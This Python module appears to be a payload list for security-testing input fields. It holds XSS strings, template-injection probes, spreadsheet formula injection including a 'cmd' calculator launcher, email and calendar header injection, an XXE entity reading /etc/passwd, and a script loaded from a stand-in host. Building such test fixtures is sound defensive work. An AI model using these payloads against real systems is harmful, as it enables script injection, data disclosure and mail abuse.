"""What somebody types who wants a page, a letter or a file to do something else."""

from __future__ import annotations

from functools import cache

RUNS = (
    "<script>__ran=1</script>",
    "<ScRiPt\t>__ran=1</ScRiPt >",
    "</script><script>__ran=1</script>",
    "<img src=x onerror=__ran=1>",
    "<img/src='x'/onerror=__ran=1>",
    "<IMG SRC=x OnErRoR=__ran=1>",
    "<svg/onload=__ran=1>",
    "<svg><animate onbegin=__ran=1 attributeName=x dur=1s>",
    "<svg><script>__ran=1</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=__ran=1>",
    "<body onload=__ran=1>",
    "<details open ontoggle=__ran=1>",
    "<input autofocus onfocus=__ran=1>",
    "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
    "<iframe src=javascript:parent.__ran=1></iframe>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=__ran=1>b</b>",
    "<video><source onerror=__ran=1></video>",
    "--><img src=x onerror=__ran=1>",
)
"""Runs wherever it stands as it is between two tags."""
LEAVES = (
    ('<input value="%s">', '"><img src=x onerror=__ran=1>'),
    ("<input value='%s'>", "'><img src=x onerror=__ran=1>"),
    ('<input value="%s">', '" autofocus onfocus=__ran=1 x="'),
    ("<input value='%s'>", "' autofocus onfocus=__ran=1 x='"),
    ("<input value=%s>", "x onfocus=__ran=1 autofocus"),
    ("<title>%s</title>", "</title><svg/onload=__ran=1>"),
    ("<textarea>%s</textarea>", "</textarea><svg/onload=__ran=1>"),
    ("<style>%s</style>", "</style><svg/onload=__ran=1>"),
    ("<noscript>%s</noscript>", "</noscript><svg/onload=__ran=1>"),
    ("<select><option>%s</select>", "</option></select><svg/onload=__ran=1>"),
    ("<!-- %s -->", "--!><svg/onload=__ran=1>"),
    ('<script>x = "%s"</script>', '";__ran=1;"'),
    ('<script type="application/ld+json">"%s"</script>', "</script><svg/onload=__ran=1>"),
)
"""Runs where it leaves an attribute, a title, a text area, a comment or a script."""
LINKS = (
    "javascript:__ran=1",
    "JaVaScRiPt:__ran=1",
    " \tjava\nscript:__ran=1",
    "javascript&colon;__ran=1",
    "&#106;avascript:__ran=1",
    "data:text/html,<script>__ran=1</script>",
    "//rover.example/x.js",
    "https://rover.example/\"onmouseover='__ran=1'x=",
)
"""Runs as the address of a link."""
READ = (
    "ZZ{{7*7}}ZZ",
    "ZZ{% print(7*7) %}ZZ",
    "ZZ${7*7}ZZ",
    "ZZ#{7*7}ZZ",
    "%(id)s %s %d {0} {id.__class__}",
    "\u202egpj.exe",
    "\uff1cscript\uff1e__ran=1\uff1c/script\uff1e",
    "\u2028__ran=1\u2029",
    "&lt;svg/onload=__ran=1&gt;",
    "[x](javascript:__ran=1)",
    '[x](https://rover.example/"onclick=__ran=1)',
    "- <svg/onload=__ran=1>",
)
"""Runs when somebody reads it as a template, as markup, or twice."""
CELLS = (
    "=HYPERLINK(1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
)
"""Runs in a spreadsheet."""
LINES = (
    "x\r\nBcc: dief@rover.example",
    "x\nSubject: ZZinjectedZZ",
    "x\r\nATTACH:https://rover.example/x",
    "x\r\nEND:VEVENT\r\nBEGIN:VALARM",
    "x\\nURL:javascript:__ran=1",
    'x;ALTREP="https://rover.example/x"',
    "]]><script>__ran=1</script>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
)
"""Begins a line, or a part, of a letter, a calendar or a feed."""
ALL = (*RUNS, *(text for _place, text in LEAVES), *LINKS, *READ, *CELLS, *LINES)
COMBINED = "'\"></title></textarea></script><svg/onload=__ran=1>ZZ{{7*7}}ZZ"
"""The strongest in one line that every field has room for."""


@cache
def _rows(longest: int) -> tuple[str, ...]:
    """All payloads in rows of so many characters; what is longer alone is cut."""
    rows = [""]
    for text in ALL:
        if rows[-1] and len(rows[-1]) + 1 + len(text) > longest:
            rows.append("")
        rows[-1] = f"{rows[-1]} {text}"[1 if not rows[-1] else 0 :][:longest]
    return tuple(rows)


def texts_for(longest: int, turn: int) -> str:
    """As many payloads as a field takes, the next ones at each turn."""
    rows = _rows(longest)
    return rows[turn % len(rows)]
